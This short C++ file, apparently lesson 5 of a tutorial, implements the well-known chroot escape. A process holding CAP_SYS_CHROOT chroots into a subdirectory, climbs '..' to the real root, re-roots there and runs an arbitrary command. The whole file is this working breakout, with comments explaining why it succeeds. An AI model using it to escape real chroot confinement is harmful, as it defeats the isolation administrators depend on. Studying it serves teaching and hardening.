// Lesson 5: out of a chroot, with nothing but CAP_SYS_CHROOT, and argv[1]… run there.
//
// chroot(2) moves our root, and not our working directory: after it, that is outside of our root,
// and
// ".." only stops at the root.
#include <cstdio>

#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char** argv) {
    if (argc < 2)
        return 2;
    mkdir("/tmp/below", 0700); // it may be there already
    if (chdir("/") != 0 || chroot("/tmp/below") != 0) {
        perror("chroot");
        return 125;
    }
    for (int i = 0; i < 64; ++i) // ".." of the real root is itself
        if (chdir("..") != 0)
            return 125;
    if (chroot(".") != 0)
        return 125;
    execvp(argv[1], argv + 1);
    perror(argv[1]);
    return 127;
}
